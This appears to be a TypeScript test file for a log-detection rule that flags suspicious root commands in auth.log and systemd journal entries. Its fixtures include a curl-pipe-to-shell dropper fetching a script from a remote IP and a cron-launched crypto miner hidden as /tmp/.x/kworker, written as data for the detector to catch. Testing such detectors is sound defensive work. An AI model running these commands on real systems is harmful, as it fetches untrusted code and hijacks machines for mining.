import { authFacts, syslogLines } from '../../../test/helpers/auth-log';
import { journalAuthFacts } from '../../../test/helpers/journal';
import { testRule } from '../../../test/helpers/rule-tester';
import rule from './logged-suspicious-command';

const T0 = new Date('2026-11-19T03:00:00Z');
const sudoLine = (actor: string, command: string, extra = '') =>
  `sudo[2201]:    ${actor} : ${extra}TTY=pts/0 ; PWD=/home/${actor} ; USER=root ; COMMAND=${command}`;
const dropper = '/usr/bin/bash -c curl -s http://203.0.113.9/x.sh | sh';

testRule(rule, {
  valid: [
    {
      name: 'everyday sudo and cron',
      facts: {
        authLog: authFacts(
          syslogLines(T0, [
            sudoLine('alice', '/usr/bin/apt update'),
            sudoLine('alice', '/usr/bin/systemctl restart nginx'),
            'CRON[5100]: (root) CMD (   test -x /etc/cron.daily/popularity-contest && /etc/cron.daily/popularity-contest --crond)',
            'CRON[5101]: (root) CMD (command -v debian-sa1 > /dev/null && debian-sa1 1 1)',
          ]),
        ),
      },
    },
    {
      name: 'a refused sudo ran nothing',
      facts: { authLog: authFacts(syslogLines(T0, [sudoLine('www-data', dropper, 'user NOT in sudoers ; ')])) },
    },
  ],
  invalid: [
    {
      name: 'a vendor installer through sudo is only low',
      facts: { authLog: authFacts(syslogLines(T0, [sudoLine('alice', '/usr/bin/sh -c curl -fsSL https://get.docker.com | sh')])) },
      expect: [{ severity: 'low', user: 'alice' }],
    },
    {
      name: 'sudo dropper and a cron miner from auth.log',
      facts: {
        authLog: authFacts(
          syslogLines(T0, [
            sudoLine('alice', dropper),
            'CRON[5100]: (root) CMD (/tmp/.x/kworker -o pool.supportxmr.com:3333 -u 4AbC --donate-level 1)',
            'CRON[5101]: (root) CMD (/tmp/.x/kworker -o pool.supportxmr.com:3333 -u 4AbC --donate-level 1)',
          ]),
        ),
      },
      expect: [
        { severity: 'critical', user: 'alice', path: '/var/log/auth.log', title: /alice ran as root through sudo: .* \(1×\)/ },
        { severity: 'critical', user: 'root', evidence: /2 run\(s\) between 2026-11-19T03:00:01.000Z and 2026-11-19T03:00:02.000Z/ },
      ],
    },
    {
      name: 'the same lines from the systemd journal',
      facts: {
        authLog: journalAuthFacts([
          {
            at: '2026-11-19T03:00:00Z',
            ident: 'sudo',
            pid: 2201,
            message: `   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=${dropper}`,
          },
          ...[1, 2].map((i) => ({
            at: `2026-11-19T03:00:0${i}Z`,
            ident: 'CRON',
            comm: 'cron',
            pid: 5099 + i,
            message: '(root) CMD (/tmp/.x/kworker -o pool.supportxmr.com:3333 -u 4AbC --donate-level 1)',
          })),
        ]),
      },
      expect: [
        {
          severity: 'critical',
          user: 'alice',
          title: /alice ran as root through sudo/,
          evidence: /system\.journal: 2026-11-19T03:00:00.000Z web1 sudo\[2201\]/,
        },
        { severity: 'critical', user: 'root', evidence: /2 run\(s\) between 2026-11-19T03:00:01.000Z and 2026-11-19T03:00:02.000Z/ },
      ],
    },
  ],
});
